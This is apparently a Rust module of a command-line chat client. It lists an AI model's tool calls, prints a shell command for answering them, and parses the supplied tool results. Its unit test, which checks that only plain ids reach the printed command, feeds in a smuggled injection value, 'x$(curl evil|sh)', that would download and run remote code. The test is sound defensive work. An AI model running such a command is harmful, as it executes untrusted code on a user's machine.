//! Calls of tools without a screen: said after the answer, answered with the next question.

use std::path::Path;

use super::out::Out;
use super::prompt::text_file;
use super::{End, args};
use crate::domain::message::{Block, Message, Role};
use crate::domain::{Error, ErrorKind, Result};

/// A call that the last answer made.
struct Call<'a> {
    id: &'a str,
    name: &'a str,
    input: String,
    /// What a person writes for it in a shell.
    handle: String,
}

/// The id of a call, where that is a plain word, else its number, from 1.
fn handle(id: &str, number: usize) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "_-.:".contains(c);
    let plain = !id.is_empty() && !id.starts_with('-') && id.chars().all(is_plain);
    if plain { id.to_owned() } else { number.to_string() }
}

fn calls(answer: &Message) -> Vec<Call<'_>> {
    let mut calls = Vec::new();
    for block in &answer.blocks {
        if let Block::ToolUse { id, name, input, .. } = block {
            let handle = handle(id, calls.len() + 1);
            calls.push(Call { id, name, input: input.to_string(), handle });
        }
    }
    calls
}

/// Says which tools an answer calls, and how they are answered.
pub(super) fn say(answer: &Message, out: &mut Out) -> Result<(), End> {
    let calls = calls(answer);
    for Call { id, name, input, .. } in &calls {
        out.note(&format!("the model calls {name} {input} as {id}"))?;
    }
    if calls.is_empty() {
        return Ok(());
    }
    let results: Vec<String> =
        calls.iter().map(|call| format!("--tool-result {}=TEXT", call.handle)).collect();
    let conversation = answer.conversation.short();
    out.note(&format!(
        "answer with `outcrop chat --conversation {conversation} {}`, or =@FILE; on the screen with Alt+T",
        results.join(" ")
    ))
}

/// The results that the arguments give, one for each call of the last answer on the way to `leaf`.
pub(super) fn results(arguments: &args::Chat, path: &[&Message]) -> Result<Vec<Block>> {
    let answer = path.last().filter(|message| message.role == Role::Assistant);
    let calls = answer.map(|answer| calls(answer)).unwrap_or_default();
    let bad =
        |why: String, hint: String| Error::new(ErrorKind::Invalid, "answering the calls of tools", why, hint);
    let named = || {
        let all: Vec<String> = calls.iter().map(|call| format!("{} ({})", call.handle, call.name)).collect();
        if all.is_empty() {
            "The last answer calls none.".to_owned()
        } else {
            format!("It calls {}.", all.join(", "))
        }
    };
    let mut given: Vec<(&str, Block)> = Vec::new();
    for said in &arguments.tool_result {
        let (of, text) = said
            .split_once('=')
            .ok_or_else(|| bad(format!("--tool-result {said} is not of the form ID=TEXT"), named()))?;
        let of_name: Vec<_> = calls.iter().filter(|call| call.name == of).collect();
        let of_number = || of.parse::<usize>().ok().and_then(|number| calls.get(number.checked_sub(1)?));
        let of_id = calls.iter().find(|call| call.id == of);
        let call = match (of_id.or_else(of_number), &of_name[..]) {
            (Some(call), _) => call,
            (None, [call]) => *call,
            (None, []) => return Err(bad(format!("no call {of:?} waits for a result"), named())),
            (None, _) => return Err(bad(format!("{of} was called more than once"), named())),
        };
        if given.iter().any(|(id, _)| *id == call.id) {
            return Err(bad(format!("{of} is answered twice"), named()));
        }
        // What is in a file is not looked at: it may begin with a picture of Markdown.
        let (text, is_error) = match text.strip_prefix('!') {
            Some(why) => (why.trim_start(), true),
            None => (text, false),
        };
        let content = match text.strip_prefix('@') {
            Some(file) => text_file(Path::new(file))?,
            None => text.to_owned(),
        };
        given.push((call.id, Block::ToolResult { id: call.id.to_owned(), content, is_error }));
    }
    if let Some(open) = calls.iter().find(|call| given.iter().all(|(id, _)| *id != call.id)) {
        let hint = format!("Add --tool-result {}=TEXT.", open.handle);
        return Err(bad(format!("{} ({}) has no result", open.handle, open.name), hint));
    }
    Ok(given.into_iter().map(|(_, block)| block).collect())
}

#[cfg(test)]
mod tests {
    #[test]
    fn only_a_plain_word_of_a_model_stands_in_a_command_for_a_shell() {
        let handle = |id| super::handle(id, 2);
        for plain in ["call_1", "toolu_01A-b", "f.g:0"] {
            assert_eq!(handle(plain), plain);
        }
        for other in ["x$(curl evil|sh)", "a b", "", "-rf", "a=b", "漢"] {
            assert_eq!(handle(other), "2");
        }
    }
}
